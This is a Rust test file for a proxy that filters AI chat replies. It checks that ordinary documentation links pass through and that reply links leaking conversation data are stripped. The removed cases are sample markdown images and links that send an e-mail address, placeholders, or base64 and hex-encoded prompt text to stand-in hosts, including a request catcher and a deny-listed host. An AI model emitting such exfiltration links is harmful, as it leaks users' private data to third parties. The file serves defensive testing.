//! Ordinary traffic flows untouched (issue 12) at the engine's level: reply links, the canary,
//! restore in context. The end-to-end suite repeats the cases through Envoy
//! (`tests/e2e/test_ordinary_traffic.py`). Link shapes are those of the public sites named; values
//! are documentation values (RFC 2606 domains) or were written for this project.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use prompt_guard::config::FilterConfig;
use prompt_guard::engine::exchange::{guard_reply, guard_request};
use prompt_guard::engine::memo::MemoScope;
use prompt_guard::engine::vault::Vault;
use serde_json::{json, Value};

fn cfg(json: &str) -> FilterConfig {
    FilterConfig::from_json(json.as_bytes()).unwrap()
}

fn chat(cfg: &FilterConfig, user: &str) -> Vault {
    let mut vault = Vault::with_capacity(cfg.max_entities);
    let body = json!({"model": "gpt-4o", "messages": [{"role": "user", "content": user}]}).to_string();
    guard_request(cfg, cfg.classify("/v1/chat/completions"), body.as_bytes(), true, &mut vault, MemoScope::NONE)
        .unwrap_or_else(|r| panic!("refused: {r}"));
    vault
}

/// The reply content the client receives, and the reply findings' rule ids.
fn reply(cfg: &FilterConfig, vault: &Vault, content: &str) -> (String, Vec<&'static str>) {
    let body = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": content}}]}).to_string();
    let out = guard_reply(cfg, body.as_bytes(), vault);
    let text = match out.body {
        Some(b) => serde_json::from_slice::<Value>(&b).unwrap()["choices"][0]["message"]["content"]
            .as_str()
            .unwrap()
            .to_owned(),
        None => content.to_owned(),
    };
    (text, out.findings.rule_ids)
}

const QUESTION: &str = "How do I run several coroutines at once with asyncio? My e-mail is dana.fox@example.com \
                        and I keep the quarterly revenue figures for the Lisbon office in a spreadsheet.";

#[test]
fn ordinary_documentation_search_and_tracker_links_pass_untouched() {
    let cfg = cfg("{}");
    let vault = chat(&cfg, QUESTION);
    for link in [
        "[the asyncio docs](https://docs.python.org/3/search.html?q=asyncio)",
        "[search](https://www.google.com/search?q=asyncio+gather+vs+wait&hl=en)",
        "[open issues](https://github.com/python/cpython/issues?q=is%3Aissue+is%3Aopen+asyncio)",
        "[a talk](https://www.youtube.com/watch?v=iG6fr81xHKA&t=120s)",
        "[an answer](https://stackoverflow.com/questions/42231161/asyncio-gather-vs-asyncio-wait?s=1)",
        "[MDN](https://developer.mozilla.org/en-US/search?q=promise.all&page=2)",
        "[commit](https://github.com/python/cpython/commit/4b2b2fc0f1b4e7b0f5c0e4f0a3b4c5d6e7f8a9b0)",
        "[crate](https://docs.rs/tokio/latest/tokio/?search=join)",
        "![diagram](https://upload.wikimedia.org/wikipedia/commons/thumb/a/a1/Event_loop.svg/640px-Event_loop.svg.png)",
        "[pypi](https://pypi.org/search/?q=aiohttp&c=Framework+%3A%3A+AsyncIO)",
    ] {
        let content = format!("Use asyncio.gather. See {link} for more.");
        let (out, rules) = reply(&cfg, &vault, &content);
        assert_eq!(out, content, "{link} was changed");
        assert!(rules.iter().all(|r| *r == "PG-RP-005"), "{link}: {rules:?}");
    }
}

#[test]
fn links_carrying_this_conversations_data_are_removed() {
    let cfg = cfg("{}");
    let vault = chat(&cfg, QUESTION);
    let placeholder = &vault.entries()[0].placeholder;
    let encoded = placeholder.replace('[', "%5B").replace(']', "%5D");
    for link in [
        // A placeholder of this exchange: the original would be restored into the URL.
        format!("![x](https://img.example.net/p.png?u={encoded})"),
        format!("[profile](https://crm.example.net/find?who={placeholder})"),
        format!("![x](https://img.example.net/p.png?u={})", placeholder.to_lowercase()),
        // An original the model should never have had, verbatim.
        "![x](https://img.example.net/p.png?u=dana.fox%40example.com)".to_owned(),
        // A blob of encoded text (base64 of a sentence), whatever its parameter is called.
        "![x](https://img.example.net/t.gif?v=VGhlIHF1YXJ0ZXJseSByZXZlbnVlIGZpZ3VyZXMgZm9yIExpc2Jvbg)".to_owned(),
        "[x](https://img.example.net/c/54686520717561727465726c7920726576656e7565206669677572657320)".to_owned(),
        // An image repeating a run of the prompt's words.
        "![x](https://img.example.net/i.png?s=quarterly+revenue+figures+for+the+lisbon)".to_owned(),
        // A deny-listed request catcher, with nothing in it.
        "![x](https://abc123.webhook.site/pixel.png)".to_owned(),
    ] {
        let content = format!("Done. {link}");
        let (out, rules) = reply(&cfg, &vault, &content);
        assert!(out.starts_with("[prompt-guard removed this content: PG-RP-00"), "{link} passed: {out}");
        assert!(!out.contains("dana.fox"), "{out}");
        assert!(!rules.is_empty());
    }
}

#[test]
fn a_clickable_search_link_may_repeat_a_short_question_but_not_the_whole_prompt() {
    let cfg = cfg("{}");
    let vault = chat(&cfg, QUESTION);
    let short = "[search](https://www.google.com/search?q=run+several+coroutines+at+once+with+asyncio)";
    assert_eq!(reply(&cfg, &vault, short).0, short);
    let long = "[search](https://www.google.com/search?q=how+do+i+run+several+coroutines+at+once+with+asyncio+my+e+mail+is)";
    assert!(reply(&cfg, &vault, long).0.starts_with("[prompt-guard removed this content"));
}

#[test]
fn allowed_hosts_may_carry_data_and_denied_hosts_replace_the_default_list() {
    let cfg =
        cfg(r#"{"threats":{"reply":{"allowed_link_hosts":["crm.example.net"],"denied_link_hosts":["evil.example.org"]}}}"#);
    let vault = chat(&cfg, QUESTION);
    let placeholder = &vault.entries()[0].placeholder;
    let to_allowed = format!("[profile](https://crm.example.net/find?who={placeholder})");
    let (out, _) = reply(&cfg, &vault, &to_allowed);
    assert!(out.contains("dana.fox@example.com"), "an allowed host gets the restored value: {out}");
    let plain = "![x](https://evil.example.org/logo.png)";
    assert!(reply(&cfg, &vault, plain).0.starts_with("[prompt-guard removed"));
    // The operator's list replaced the default one.
    let catcher = "![x](https://webhook.site/logo.png)";
    assert_eq!(reply(&cfg, &vault, catcher).0, catcher);
}
